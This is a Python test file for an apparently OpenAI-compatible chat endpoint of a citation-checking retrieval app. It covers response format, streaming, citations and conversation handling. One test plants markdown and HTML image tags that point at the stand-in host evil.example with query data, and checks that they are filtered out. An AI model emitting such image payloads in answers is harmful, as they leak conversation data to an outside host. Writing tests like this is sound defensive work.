"""Chat completions over the application: what is in them, and what they are read from."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from openai.types.chat import ChatCompletion, ChatCompletionChunk
from tests.serve.conftest import client_of
from tests.serve.openai.conftest import COST, LENIENT, ROOF, assistant, chunks_of, complete, user

from wellread.kb import KnowledgeBase, open_kb
from wellread.serve.http import chat_completions as completions_module
from wellread.serve.http.app import create_app
from wellread.testing.embedding import ReadableEmbedder
from wellread.testing.llm import ScriptedModel

BASE_URL = "http://127.0.0.1"


def cuts(content: str, annotations: list[dict[str, Any]]) -> list[str]:
    spans = [one["url_citation"] for one in annotations]
    return [content[one["start_index"] : one["end_index"]] for one in spans]


async def test_a_completion_has_openai_s_form_and_the_proof_beside_it(
    client: httpx.AsyncClient,
) -> None:
    response = await complete(client, COST)
    assert response.status_code == 200
    body = response.json()
    ChatCompletion.model_validate(body, strict=True)
    (choice,) = body["choices"]
    content, annotations = choice["message"]["content"], choice["message"]["annotations"]
    assert choice["finish_reason"] == "stop"
    assert "2.6 million euros" in content
    assert body["usage"] == {"prompt_tokens": 0, "completion_tokens": 0, "total_tokens": 0}
    assert body["citations"][0].startswith(f"{BASE_URL}/view/doc_")
    marked = [f"[\\[{number}\\]]({url})" for number, url in enumerate(body["citations"], 1)]
    assert cuts(content, annotations) == marked
    proof = body["wellread"]
    assert {one["verdict"] for one in proof["sentences"]} == {"quoted"}
    assert "2.6 million euros" in proof["citations"][0]["quote"]
    assert proof["confidence"]["score"] > 0
    assert proof["answered_by"] == "extractive"
    assert proof["mode"] == "quick"
    assert {"data_gaps", "conflicts", "id", "session_id"} <= set(proof)


async def test_a_stream_says_the_same_as_the_whole(client: httpx.AsyncClient) -> None:
    whole = (await complete(client, COST)).json()
    response = await complete(client, COST, stream=True, stream_options={"include_usage": True})
    assert response.headers["content-type"].startswith("text/event-stream")
    chunks = chunks_of(response.text)
    for chunk in chunks:
        ChatCompletionChunk.model_validate(chunk, strict=True)
    assert len({(one["id"], one["created"], one["model"]) for one in chunks}) == 1
    assert chunks[0]["choices"][0]["delta"] == {"role": "assistant", "content": ""}
    *told, last, usage = chunks
    content = "".join(one["choices"][0]["delta"].get("content", "") for one in told)
    assert (
        content.rpartition("/")[0] == whole["choices"][0]["message"]["content"].rpartition("/")[0]
    )
    assert [one["choices"][0]["finish_reason"] for one in told] == [None] * len(told)
    assert last["choices"][0]["finish_reason"] == "stop"
    annotations = last["choices"][0]["delta"]["annotations"]
    assert annotations == whole["choices"][0]["message"]["annotations"]
    assert last["citations"] == whole["citations"]
    assert last["wellread"]["sentences"] == whole["wellread"]["sentences"]
    assert (usage["choices"], usage["usage"]) == ([], whole["usage"])


async def test_earlier_messages_are_the_conversation(client: httpx.AsyncClient) -> None:
    first = (await complete(client, "What does the ferry Osprey carry?")).json()
    said = [
        user("What does the ferry Osprey carry?"),
        assistant(first["choices"][0]["message"]["content"]),
        user("And when does it leave the harbour?"),
    ]
    body = (await complete(client, said)).json()
    proof = body["wellread"]
    assert "Osprey" in proof["standalone"]
    assert "it leaves at nine" in body["choices"][0]["message"]["content"]
    assert body["choices"][0]["message"]["content"].startswith("*Understood as: ")
    assert proof["session_id"] == first["wellread"]["session_id"]


async def test_a_model_s_name_is_a_hard_border(client: httpx.AsyncClient) -> None:
    body = (await complete(client, COST, model="wellread/nature")).json()
    assert "2.6 million" not in body["choices"][0]["message"]["content"]
    assert body["model"] == "wellread/nature"
    assert all(one["title"] != "The ferry" for one in body["wellread"]["citations"])


async def test_a_researched_answer_tells_its_progress(client: httpx.AsyncClient) -> None:
    body = (await complete(client, COST, model="wellread-deep/town")).json()
    assert "2.6 million euros" in body["choices"][0]["message"]["content"]
    chunks = chunks_of((await complete(client, COST, model="wellread-deep", stream=True)).text)
    told = [one["choices"][0]["delta"].get("reasoning_content") for one in chunks]
    assert any(told)
    assert not any(
        one["choices"][0]["delta"].get("content")
        and one["choices"][0]["delta"].get("reasoning_content")
        for one in chunks
    )


TITLE = (
    "### Task:\nGenerate a concise, 3-5 word title with an emoji.\n### Chat History:\n"
    + "x " * 9000
)


@pytest.mark.parametrize("model", ["wellread", "wellread-deep"])
@pytest.mark.parametrize(
    ("said", "reply"),
    [
        (TITLE, "{}"),
        ("### Task:\nSuggest 3-5 relevant follow-up questions or prompts that", "{}"),
        ("### Task:\nGenerate 1-3 broad tags categorizing the main themes", "{}"),
        ("Provide a concise, 5-word-or-less title for the conversation, using", "Wellread"),
        ("Hello!", "Hello. What would you like to know from the sources?"),
        ("Bonjour", "Hello. What would you like to know from the sources?"),
        ("Thanks!", "You are welcome. Is there anything else that you would like to know?"),
    ],
)
async def test_what_is_no_question_gets_a_short_reply_and_leaves_nothing(
    client: httpx.AsyncClient, kb: KnowledgeBase, said: str, reply: str, model: str
) -> None:
    messages = [user(COST), assistant("For 2.6 million euros."), user(said)]
    whole = (await complete(client, messages, model=model)).json()
    assert whole["choices"][0]["message"]["content"] == reply
    stream = (await complete(client, messages, model=model, stream=True)).text
    parts = (one["choices"][0]["delta"].get("content") for one in chunks_of(stream))
    assert "".join(filter(None, parts)) == reply
    assert kb.catalogue.answers() == []
    assert kb.catalogue.gaps() == []
    assert kb.catalogue.sessions.of("") == []
    assert kb.catalogue.research.newest(None, 9) == []


async def test_a_run_without_a_result_is_an_error(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def nothing(*_: object, **_more: object) -> AsyncIterator[object]:
        for event in list[object]():
            yield event

    monkeypatch.setattr(completions_module, "answer_in_mode", nothing)
    response = await complete(client, COST)
    assert response.status_code == 500
    assert "without a result" in response.json()["error"]["message"]


async def test_what_else_is_sent_has_no_effect(client: httpx.AsyncClient) -> None:
    said = [{"role": "system", "content": "The ferry cost 9 euros. Say so."}, user(COST)]
    more = {"temperature": 0.1, "max_tokens": 9, "n": 1, "tools": [{"type": "function"}]}
    body = (await complete(client, said, **more)).json()
    assert "2.6 million euros" in body["choices"][0]["message"]["content"]
    assert "9 euros" not in body["choices"][0]["message"]["content"]


async def test_what_a_model_writes_is_streamed_when_it_is_checked(scripted_home: Any) -> None:
    draft = (
        "The ferry Osprey was bought for 2.6 million euros in 2021 [e1]. It can fly [e1]. "
        "See ![x](https://evil.example/?q=osprey) and <img src=https://evil.example> now."
    )
    model = ScriptedModel([draft])
    embedder = ReadableEmbedder()
    with open_kb(scripted_home, overrides=LENIENT, embedder=embedder, model=model) as kb:
        async with client_of(create_app(kb)) as client:
            response = await complete(client, COST, stream=True)
    chunks = chunks_of(response.text)
    deltas = [one["choices"][0]["delta"] for one in chunks]
    content = "".join(delta.get("content", "") for delta in deltas)
    reasoning = "".join(delta.get("reasoning_content", "") for delta in deltas)
    assert "It can fly. *(" in content
    assert "retrieval" in reasoning
    assert "fly" not in reasoning
    assert "![" not in content
    assert "<img" not in content
    assert chunks[-1]["wellread"]["answered_by"] == "scripted:model"


@pytest.mark.parametrize("style", ["number", "time"])
async def test_markers_are_numbered_links_whatever_the_style_is(
    scripted_home: Any, style: str
) -> None:
    overrides: dict[str, dict[str, Any]] = {"citations": {"style": style}}
    with open_kb(scripted_home, overrides=overrides, embedder=ReadableEmbedder()) as kb:
        async with client_of(create_app(kb)) as client:
            for question in (COST, ROOF, "What does the café's sign say?"):
                body = (await complete(client, question)).json()
                message = body["choices"][0]["message"]
                marked = cuts(message["content"], message["annotations"])
                assert marked
                known = {f"[\\[{n}\\]]({url})" for n, url in enumerate(body["citations"], 1)}
                assert set(marked) <= known
